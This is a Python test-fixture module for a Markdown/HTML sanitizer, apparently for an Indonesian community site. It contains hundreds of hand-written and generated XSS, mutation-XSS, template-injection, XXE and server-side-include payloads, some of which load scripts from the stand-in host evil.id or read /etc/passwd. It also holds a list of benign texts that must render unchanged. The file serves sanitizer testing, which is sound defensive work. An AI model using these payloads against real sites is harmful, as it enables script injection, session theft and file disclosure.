# ruff: noqa: E501, SIM905
"""Inputs that try to run, to fetch, to pose as something else or to break out of where they stand.

``HAND`` is written by hand and has its exact output in ``exact.json``; ``generated()`` yields some
thousands more. Whatever runs calls ``alert(1)`` or ``kait(1)``, and whatever fetches asks evil.id:
the tests in a browser listen for both.
"""

from collections.abc import Iterator

HAND = [
    # Markdown that carries an address
    "[a](javascript:alert(1) 'judul')",
    "[a](<javascript:alert(1)> 'judul')",
    "[a]( javascript:alert(1) )",
    "[a](\tjavascript:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&#x3A;alert&#40;1&#41;)",
    "[a](javascript&colon;alert&lpar;1&rpar;)",
    "[a](&#x01;javascript:alert(1))",
    "[a](&Tab;javascript:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](javas\\cript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](%6A%61%76%61script:alert(1))",
    "[a](javascript%3Aalert(1))",
    "[a](javascript%253Aalert(1))",
    "[a](jav\u00adascript:alert(1))",
    "[a](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "[a](javascript：alert(1))",
    "[a](ſcript:alert(1))",
    "[a](feed:javascript:alert(1))",
    "[a](view-source:javascript:alert(1))",
    "[a](jar:https://evil.id!/x)",
    "[a](ws://evil.id)",
    "[a](ftp://evil.id)",
    "[a](sms:+62811)",
    "[a](whatsapp://send?text=x)",
    "[a](market://details?id=evil)",
    "[a](ms-msdt:/id PCWDiagnostic)",
    "[a](chrome://settings)",
    "[a](about:blank)",
    "[a](https://)",
    "[a](https:///evil.id)",
    "[a](http:evil.id)",
    "[a](https://kim.id:443@evil.id/)",
    "[a](https://user:pass@kim.id/)",
    "[a](//evil.id@kim.id)",
    "[a](/\\evil.id/)",
    "[a](\\/\\/evil.id)",
    "[a](/%2Fevil.id)",
    "[a](/%09/evil.id)",
    "[a](./javascript:alert(1))",
    "[a](a/../javascript:alert(1))",
    "[a](?javascript:alert(1))",
    "[a](#javascript:alert(1))",
    "[a](mailto:a@b.id?body=<script>alert(1)</script>)",
    "[a](tel:<script>)",
    "[a](data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](DATA:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](blob:https://kim.id/1)",
    "[a](filesystem:https://kim.id/x)",
    '[a](b.md "x" onclick="alert(1)")',
    "[a](b.md 'x' onclick='alert(1)')",
    '[a](b.md"onclick="alert(1))',
    "[a](b.md\u2028onclick=alert(1))",
    "[a](<b.md\">\" onclick=\"alert(1)>)",
    "[<img src=x onerror=alert(1)>](b.md)",
    "[a<script>alert(1)</script>b](c.md)",
    "[`<img src=x onerror=alert(1)>`](b.md)",
    "[a](b.md '</a><img src=x onerror=alert(1)>')",
    "[a]: javascript:alert(1)\n\n[a]",
    "[a]: <javascript:alert(1)>\n\n[a][]",
    "[a]: j&#x61;vascript:alert(1) 'x'\n\n[b][a]",
    '[a]: b.md "\\" onclick=\\"alert(1)"\n\n[a]',
    "[a]: //evil.id/x\n\n[a]",
    "![a](javascript:alert(1) 'x')",
    "![a](data:image/png;base64,iVBORw0KGgo=)",
    "![a](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
    "![a](https://evil.id/pelacak.gif)",
    "![](https://evil.id/pelacak.gif)",
    "![a][b]\n\n[b]: https://evil.id/x.png",
    "![a](//evil.id\\x.png)",
    "![a\" onload=\"alert(1)](b.jpg)",
    "![a' onload='alert(1)](b.jpg)",
    "![<script>alert(1)</script>](b.jpg)",
    "![a](b.jpg\" onerror=\"alert(1))",
    '![a](b.jpg "\'\\"><img src=x onerror=alert(1)>")',
    "![a](b.jpg 'x&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;')",
    "[![a](https://evil.id/x.png)](javascript:alert(1))",
    "[![a](b.jpg)](javascript:alert(1))",
    "<https://kim.id/<script>alert(1)</script>>",
    "<javascript:alert(1)//@kim.id>",
    "<data:text/html,x>",
    "<a@b.id\"onclick=alert(1)>",
    "<mailto:a@b.id?subject=<script>>",
    "https://kim.id/'onmouseover='alert(1)",
    "https://kim.id/\u202egpj.exe",
    "www.kim.id/\"onclick=\"alert(1)",
    "a@b.id\"onclick=\"alert(1)",
    "http://kim.id`onclick=alert(1)`",
    # Markdown that carries HTML past it
    "`` `<img src=x onerror=alert(1)>` ``",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\"onclick=\"alert(1)\nx\n~~~",
    "``` {.x onclick=alert(1)}\nx\n```",
    "# a {onclick=alert(1)}",
    "a\n{: onclick=alert(1) }",
    "[a](b.md){: onclick=alert(1)}",
    "*[a]: <img src=x onerror=alert(1)>\n\na",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: b",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "> <script>alert(1)</script>",
    "| a | b |\n|---|:-:|\n| <svg onload=alert(1)> | `<svg onload=alert(1)>` |",
    "| <b onclick=alert(1)>a | c |\n|---|---|\n| d</b> | e |",
    "~~<img src=x onerror=alert(1)>~~",
    "**<b onclick=alert(1)>**a",
    "<b>**a</b>**",
    "<!-- a --!><img src=x onerror=alert(1)> -->",
    "<!-- --><img src=x onerror=alert(1)><!-- -->",
    "<!--->a<img src=x onerror=alert(1)>-->",
    "<! foo><img src=x onerror=alert(1)>",
    "<? foo ><img src=x onerror=alert(1)> ?>",
    "</ foo><img src=x onerror=alert(1)>",
    "<%= 7*7 %><img src=x onerror=alert(1)>",
    "\x02klzzwxh:0000\x03",
    "\x02amp\x03lt;script>",
    "\x02wzxhzdk:0\x03<b>a</b>",
    # Templates, shells, other languages
    "{{ 7*7 }}",
    "{{ site.__class__ }}",
    "{% include '/etc/passwd' %}",
    "{# a #}b",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "[[toc]] [TOC] {{< shortcode >}} {% raw %}",
    "--8<-- \"/etc/passwd\"",
    "!include /etc/passwd",
    "<?php system('id') ?>",
    "<!--#exec cmd=\"id\" -->",
    "<!--#include virtual=\"/etc/passwd\" -->",
    # Elements
    "<script src=//evil.id/x.js></script>",
    "<script type=module>import '//evil.id/x.js'</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src='x' onerror=\"alert(1)\">",
    "<img src=x:x onerror=alert(1)>",
    "<img src=a.jpg onload=alert(1) alt=a>",
    "<img lowsrc=https://evil.id/x src=a.jpg>",
    "<img dynsrc=https://evil.id/x src=a.jpg>",
    "<img usemap=#m src=a.jpg><map name=m><area href=javascript:alert(1)></map>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=https://evil.id/x><img src=a.jpg></picture>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style>*{background:url(//evil.id)}</style></svg>",
    "<math href=javascript:alert(1)>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=//evil.id></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe/onload=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=//evil.id/x.swf></object>",
    "<object type=text/html data='data:text/html,x'></object>",
    "<applet code=x></applet>",
    "<embed src=//evil.id/x.swf>",
    "<video poster=javascript:alert(1) src=//evil.id/v></video>",
    "<audio autoplay onplay=alert(1) src=a.mp3></audio>",
    "<video><track default src=//evil.id/x.vtt></video>",
    "<a href=javascript:alert(1)//https://kim.id>a</a>",
    "<a href='java\0script:alert(1)'>a</a>",
    "<a href='\x01javascript:alert(1)'>a</a>",
    "<a href=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>a</a>",
    "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>a</a>",
    "<a href=//evil.id target=_top ping=//evil.id>a</a>",
    "<a href=a.md ping=//evil.id/p>a</a>",
    "<a xlink:href=javascript:alert(1)>a</a>",
    "<a href=a.md style=position:fixed;inset:0;z-index:9>Masuk</a>",
    "<a href=https://evil.id style='display:block;height:100vh'>a</a>",
    "<area href=javascript:alert(1)>",
    "<form><button formaction=javascript:alert(1)>a</button></form>",
    "<form id=x></form><button form=x formaction=//evil.id>a</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=password name=sandi>",
    "<label for=cari>a</label><fieldset><legend>Masuk</legend></fieldset>",
    "<isindex action=javascript:alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>b</div>",
    "<dialog open>a</dialog>",
    "<progress value=1 onclick=x>a</progress><meter>b</meter>",
    "<output>a</output><datalist><option>b</datalist>",
    "<base href=javascript:alert(1)//><a href=/a>b</a>",
    "<base target=_blank>",
    "<link rel=prefetch href=//evil.id>",
    "<link rel=import href=//evil.id>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<meta name=referrer content=unsafe-url>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>body{display:none}</style>a",
    "<style>@import url(//evil.id/x.css);</style>",
    "<style></style><img src=x onerror=alert(1)></style>",
    "<div style='background:url(javascript:alert(1))'>a</div>",
    "<div style='width:expression(alert(1))'>a</div>",
    "<div style=-moz-binding:url(//evil.id)>a</div>",
    "<div class='top skip brand note strong'>a</div>",
    "<div id=isi>a</div><div id=bagikan>b</div>",
    "<span class=footnote-back>a</span>",
    "<div hidden>a</div><div inert>b</div>",
    "<p contenteditable onfocus=alert(1) autofocus tabindex=1>a</p>",
    "<p draggable=true ondragstart=alert(1) accesskey=x>a</p>",
    "<b onpointerrawupdate=alert(1)>a</b>",
    "<b onanimationstart=alert(1) style=animation-name:x>a</b>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>a</summary>b</details>",
    "<marquee behavior=alternate onbounce=alert(1)>a</marquee>",
    "<table background=javascript:alert(1)><td background=//evil.id>a</table>",
    "<ol start=1 type=a onclick=x><li onclick=x>a</ol>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=//evil.id></layer>",
    "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml>",
    "<slot name=x>a</slot><x-a is=b>c</x-a>",
    "<portal src=//evil.id></portal><fencedframe></fencedframe>",
    "<canvas id=x></canvas><noscript><img src=x onerror=alert(1)></noscript>",
    "<p itemscope itemtype=//schema.org itemprop=x>a</p>",
    "<time datetime='2024-01-01\" onclick=alert(1)'>a</time>",
    "<bdo dir='rtl\" onclick=alert(1)'>a</bdo>",
    "<p lang='id\" onclick=alert(1)'>a</p>",
    "<abbr title='</abbr><img src=x onerror=alert(1)>'>a</abbr>",
    "<q cite=//evil.id>a</q><ins cite=javascript:x>b</ins>",
    # Mutation
    "<svg></p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<math><mi><table><mi><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg><desc><table><desc></table><style><a title='</style><img src onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<xmp><img title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src onerror=alert(1)>'></title>",
    "<noframes><p title='</noframes><img src onerror=alert(1)>'>",
    "<style><p title='</style><img src onerror=alert(1)>'>",
    "<template><p title='</template><img src onerror=alert(1)>'>",
    "<select><style></select><img src onerror=alert(1)></style></select>",
    "<table><select><iframe></table><img src onerror=alert(1)></iframe>",
    "<a><table><a href=javascript:alert(1)>b</a></table></a>",
    "<p><svg><p><img src onerror=alert(1)></svg>",
    "<b><p></b><i></p></i><img src onerror=alert(1)>",
    "<ruby><rt><script>alert(1)</script></rt></ruby>",
    "<li><script></li>alert(1)</script>",
    "<plaintext><img src onerror=alert(1)>",
    "<listing>&lt;img src onerror=alert(1)&gt;</listing>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<ı onclick=alert(1)>a</ı>",
    "<b\u00a0onclick=alert(1)>a</b>",
    "<b\u2003onclick=alert(1)>a</b>",
    # Out of data: scripts, XML, calendars, sheets
    "]]><script>alert(1)</script>",
    "]]>]]&gt;<![CDATA[<img src=x onerror=alert(1)>]]>",
    "\";alert(1);//",
    "</script><img src=x onerror=alert(1)>",
    "<!--<script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "a\u2028alert(1)\u2029b",
    "a\\nEND:VEVENT\\nBEGIN:VEVENT",
    "a;TZID=x:b,c\\;d",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "<?xml-stylesheet href='//evil.id/x.xsl'?>",
    "=HYPERLINK(\"https://evil.id\")",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # Terminals and eyes
    "\x1b[2J\x1b[31mgalat\x1b[0m",
    "\x1b]8;;https://evil.id\x07klik\x1b]8;;\x07",
    "&#27;[2J &#x9b;31m &#155;",
    "\u202egnp.exe\u202c a\u2066b",
    "a\u200bb\u2060c\ufeffd\u00ade",
    "\U000e0041\U000e0042a",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 3,
]  # fmt: skip

HARMLESS = [
    "Harga gabah <b>naik</b>: Rp6.500/kg & beras Rp14.000/kg.",
    "I <3 desa, 3 < 5 dan 5 > 3, a<b, x<=y, <- panah ->",
    'Tag `<script>` dipakai di HTML; `<b onclick="x">` jangan ditiru.',
    "Rumus: E = mc², a² + b² = c², ½ + ¼ = ¾, 5 × 3 ÷ 2 ≈ 7,5 ± 0,1 °C",
    "Surel: kim.bagelen@example.id, WA 0812-3456-7890, +62 812 3456 7890",
    "Petani & nelayan; A&B; AT&T; R&D; ?a=1&b=2",
    "Sugeng enjing: ꦱꦸꦒꦼꦁꦲꦺꦚ꧀ꦗꦁ",
    "السلام عليكم ورحمة الله وبركاته",
    "新年快乐，万事如意！祝村民健康。",
    "日本語のテスト、한국어 시험, ไทย, हिन्दी, עברית",
    "😀🌾👩‍🌾👨‍👩‍👧‍👦🇮🇩🏳️‍🌈❤️☕️1️⃣",
    "Zażółć gęślą jaźń, Größe, naïve café, İstanbul, Đà Nẵng",
    "“Kutipan” ‘tunggal’ «kutip» – em—dash… • bullet",
    "Jum'at, Qur'an, Ma'ruf, O’Brien, sa’at",
    "Jalan Raya No. 5/7, RT 03/RW 01, Kab./Kota (lama)",
    "Pukul 19:30 s.d. 21:00; skor 2:1; rasio 1:100",
    "1. bukan daftar 2) juga bukan #3 tagar#bukan",
    "C:\\Desa\\data.txt dan /etc/hosts dan ~/berkas",
    "100% lokal, 50%off, 5^2, a_b_c, snake_case_name, *bukan, _bukan",
    "$5 $10 $$ €7 £3 ¥9 ₹2 Rp1.000,-",
    "[1] catatan, [x] bukan tugas, [tautan tanpa alamat], ![seru]",
    "{kurung} {{ ganda }} {% persen %} ${dolar} <%= %>",
    "function f(a,b){return a<b&&b>a;} // kode",
    "SELECT * FROM desa WHERE nama='O''Brien'; -- komentar",
    "if (a < b && c > d) { x = y | z; }",
    "Garis | tegak | dalam | kalimat",
    "~kira-kira~ dan ~~dicoret~~ serta ~5 km",
    "Tanda tanya??? Seru!!! Elipsis... Titik; koma: titik dua",
    "H2O, CO2, m2, No.1, 1st, 2nd, ke-3",
    "https://kim.id/a?b=c&d=e#f dan http://contoh.id/(kurung)",
    "www.kim.id, kim.id, mailto:a@b.id, a@b.id.",
    "<https://kim.id/> dan <a@b.id>",
    "&copy; &mdash; &nbsp; &lt;b&gt; &amp;amp; &euro; &#8217; &#x2019; &#146;",
    "<kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, m<sup>2</sup>, <mark>penting</mark>",
    '<abbr title="Kelompok Informasi Masyarakat">KIM</abbr>',
    "<details><summary>Buka</summary>Isi</details>",
    "<ruby>漢<rt>kan</rt>字<rt>ji</rt></ruby>",
    '<bdo dir="rtl">kanan ke kiri</bdo> <q>kutip</q> <cite>judul</cite>',
    "<del>lama</del> <ins>baru</ins> <s>usang</s> <u>garis</u> <small>kecil</small>",
    "<dl><dt>Istilah</dt><dd>Arti</dd></dl>",
    "Nama: Siti <Ibu RT> Aminah",
    "→ ← ↑ ↓ ✓ ✗ ★ ☆ ♥ ♫ № ™ ® ©",
    "αβγ Ωμέγα Привет мир ԱԲԳ აბგ",
    "𝕳𝖊𝖑𝖑𝖔 𝓦𝓸𝓻𝓵𝓭 ⅷ ⑨ ㎏ ﬁ",
    "Baris satu  \nbaris dua\\\nbaris tiga",
    "javascript: adalah skema; data: juga; onclick= adalah atribut",
    "Kata kunci: alert(1), eval(), document.cookie, <!DOCTYPE html>",
    "-5 °C, --opsi, ---, – dan — ; +62; *5; #1",
    "'kutip' \"ganda\" `tik` ´akut´ ‹sudut›",
    "Persamaan: \\(a<b\\), \\[x^2\\], $a<b$, $$\\sum_{i=1}^{n} i$$",
    "Ꞌ ʼ ʻ ʿ ʾ: Ka'bah, Ka‘bah, Kaʻbah",
    "Kolom\tdengan\ttab dan   banyak   spasi",
]
"""Texts of which not a letter may get lost: each is shown just as it reads."""

SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)", "&#x6a;avascript:alert(1)", "&#0000106avascript:alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)", "javascript://%0aalert(1)", "javascript://kim.id/%0Aalert(1)", "vbscript:msgbox(1)",
    "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'/>", "blob:https://kim.id/1", "file:///etc/passwd",
    "filesystem:https://kim.id/x", "about:blank", "intent://x#Intent;end", "jar:https://evil.id!/x", "view-source:x",
    "feed:javascript:alert(1)", "ms-its:x", "wyciwyg://x", "chrome://x", "resource://x", "moz-icon://x", "ws://evil.id",
    "\\\\evil.id\\x", "/\\evil.id", "\\/evil.id", "/\t/evil.id", "https:evil.id", "https:/evil.id", "https:\\\\evil.id",
    "%6aavascript:alert(1)", "javascript%3aalert(1)", "%2f%2fevil.id", "/%5cevil.id", "%00javascript:alert(1)",
)  # fmt: skip
CARRIERS = (
    '<a href="{}">a</a>', "<a href='{}'>a</a>", "<a href={}>a</a>", '<a href="{}" target=_blank rel=opener>a</a>',
    '<img src="{}" alt=a>', "<img src={} onerror=alert(1)>", '<img srcset="{} 1x" src=a.jpg>', '<iframe src="{}"></iframe>',
    '<embed src="{}">', '<object data="{}">a</object>', '<video src="{}" poster="{}"></video>', '<audio src="{}"></audio>',
    '<source src="{}">', '<track src="{}">', '<form action="{}"><button>a</button></form>', '<button formaction="{}">a</button>',
    '<input type=image src="{}">', '<link rel=stylesheet href="{}">', '<base href="{}">', '<blockquote cite="{}">a</blockquote>',
    '<q cite="{}">a</q>', '<del cite="{}">a</del>', '<ins cite="{}">a</ins>', '<body background="{}">a',
    '<table background="{}"><tr><td>a</table>', '<svg><a xlink:href="{}"><text>a</text></a></svg>', '<svg><use href="{}"/></svg>',
    '<svg><image href="{}"/></svg>', '<math href="{}">a</math>', '<area href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<p style="background:url({})">a</p>', '<a href="a.md" ping="{}">a</a>', '<isindex action="{}">', '<applet codebase="{}"></applet>',
    "[a]({})", "[a](<{}>)", "![a]({})", "[a]: {}\n\n[a]", "![a][b]\n\n[b]: <{}>", "<{}>", "[![a](b.jpg)]({})", "[a]({} 'b')",
)  # fmt: skip
EVENTS = tuple(
    "onabort onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy"
    " onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce"
    " oncancel oncanplay oncanplaythrough onchange onclick onclose oncommand oncontentvisibilityautostatechange oncontextlost"
    " oncontextmenu oncopy oncuechange oncut ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop"
    " ondurationchange onemptied onend onended onerror onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange"
    " ongotpointercapture onhashchange oninput oninvalid onkeydown onkeypress onkeyup onload onloadeddata onloadedmetadata"
    " onloadstart onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover"
    " onmouseup onmousewheel onoffline ononline onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel"
    " onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup"
    " onpopstate onprogress onratechange onrepeat onreset onresize onscroll onscrollend onscrollsnapchange onsearch onseeked"
    " onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstart onstorage onsubmit onsuspend"
    " ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend"
    " ontransitionrun ontransitionstart onunhandledrejection onunload onvolumechange onwaiting onwheel onkimgen".split()
)
HOLDERS = (
    "<img src=x {}=alert(1)>", "<b {}='alert(1)'>a</b>", '<a href=a.md {}="alert(1)">a</a>', "<svg/{}=alert(1)>",
    "<details open {}=alert(1)><summary>a</summary></details>", "<input autofocus {}=alert(1)>", "<video src=x {}=alert(1)></video>",
    "<x-a {}=alert(1) tabindex=1 autofocus>a</x-a>", "<body {}=alert(1)>a",
)  # fmt: skip
GAPS = ("/", "\n", "\t", "\x0c", "  ", "/ / ", "\r\n", "\u00a0 ", " \x0b ", "'' ", '"" ')
ELEMENTS = tuple(
    "a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button"
    " canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl dt element"
    " em embed fencedframe fieldset figcaption figure font footer form frame frameset h1 h2 h3 h4 h5 h6 head header hgroup hr"
    " html i iframe image img input ins isindex kbd keygen label layer legend li link listing main map mark marquee math menu"
    " menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture"
    " plaintext portal pre progress q rb rbc rp rt rtc ruby s samp script search section select shadow slot small source spacer"
    " span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul"
    " var video wbr xml xmp x-a".split()
)
ATTRIBUTES = (
    "style=position:fixed;inset:0;z-index:9", "style='background:url(//evil.id)'", "id=isi", "id=__proto__", "name=attributes",
    "name=body", "class='top brand'", "class=skip", "onclick=alert(1)", "href=javascript:alert(1)", "src=//evil.id/x", "data-a=b",
    "action=//evil.id", "formaction=javascript:alert(1)", "srcdoc='<script>alert(1)</script>'", "contenteditable autofocus",
    "popover", "is=x", "slot=x", "part=x", "nonce=x", "http-equiv=refresh", "background=//evil.id", "xlink:href=javascript:alert(1)",
    "xml:base=javascript:", "itemprop=x", "accesskey=x", "tabindex=1", "role=alert", "aria-label=palsu", "dir=rtl", "lang=x",
    "target=_top", "download", "ping=//evil.id", "rel=stylesheet", "hidden", "draggable=true", "usemap=#x", "form=x", "title='a\"b'",
)  # fmt: skip
WRAPPERS = (
    "<svg>{}</svg>", "<math>{}</math>", "<table>{}</table>", "<select>{}</select>", "<form>{}", "<noscript>{}</noscript>",
    "<template>{}</template>", "<style>{}</style>", "<title>{}</title>", "<textarea>{}</textarea>", "<xmp>{}</xmp>",
    "<iframe>{}</iframe>", "<noembed>{}</noembed>", "<noframes>{}</noframes>", "<plaintext>{}", "<svg><desc>{}</desc></svg>",
    "<svg><foreignObject>{}</foreignObject></svg>", "<math><mtext>{}</mtext></math>", "<math><annotation-xml encoding=text/html>{}",
    "<p><table><p>{}", "<b><a>{}</b></a>", "<!--{}-->", "<![CDATA[{}]]>", "<?a {}?>", "<svg><style>{}</style></svg>",
    "<math><mi><style>{}</style></mi></math>", "<table><caption><svg>{}", "<object>{}</object>", "<button>{}</button>",
    "<marquee>{}</marquee>", "<p title='{}'>", "<svg><title>{}</title></svg>", "<select><option>{}", "<ruby><rp>{}", "<frameset>{}",
)  # fmt: skip
BREAKERS = (
    "<img src=x onerror=alert(1)>", "</style><img src=x onerror=alert(1)>", "<a title='</style><img src=x onerror=alert(1)>'>",
    "<a title='</title><img src=x onerror=alert(1)>'>", "<a title='--><img src=x onerror=alert(1)>'>", "<script>alert(1)</script>",
    "<mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>", "</p></b></table><img src=x onerror=alert(1)>",
    "<![CDATA[</style><img src=x onerror=alert(1)>]]>", "'><img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<!--<img src=x onerror=alert(1)>", "]]><img src=x onerror=alert(1)>", "</textarea></title></xmp><svg/onload=alert(1)>",
    "<form><form><mglyph><style></math><img src onerror=alert(1)>", "<iframe srcdoc='<img src=x onerror=alert(1)>'>",
)  # fmt: skip
ENDS = (
    '"', "'", "`", ">", "/>", "-->", "]]>", "</script>", "</style>", "</title>", "</textarea>", "\\\"", "\\'", "*/", "%>", "}}", "?>", "\u2028",
    "</p></div></article></main>", "</a>", "</code></pre>", "</item>", "&quot;", "&#34;", "%22",
)  # fmt: skip


def generated() -> Iterator[str]:
    """Some thousands of payloads, always the same ones."""
    for number, scheme in enumerate(SCHEMES):
        for place, carrier in enumerate(CARRIERS):
            if (number + place) % 2 or "javascript:alert" in scheme:
                yield carrier.replace("{}", scheme)
    for number, event in enumerate(EVENTS):
        for place, holder in enumerate(HOLDERS):
            if (number + place) % 3 == 0:
                yield holder.replace("{}", event)
    for gap in GAPS:
        yield f"<img{gap}src=x{gap}onerror{gap}={gap}alert(1){gap}>"
        yield f"<a{gap}href{gap}={gap}javascript:alert(1)>a</a>"
        yield f"<{gap}script>alert(1)</script>"
        yield f"<script{gap}>alert(1)</script{gap}>"
    for number, element in enumerate(ELEMENTS):
        for place, attribute in enumerate(ATTRIBUTES):
            if (number + place) % 5 == 0:
                yield f"<{element} {attribute}>a</{element}>"
    for wrapper in WRAPPERS:
        for breaker in BREAKERS:
            yield wrapper.replace("{}", breaker)
    for end in ENDS:
        for breaker in BREAKERS[:4]:
            yield f"a{end}{breaker}"


def words() -> list[str]:
    """Payloads for one line of plain text: titles, names, tags, file names' words."""
    lines = [payload.replace("\n", " ") for payload in HAND]
    lines += [f"x{end}{breaker}" for end in ENDS for breaker in BREAKERS[:2]]
    return lines
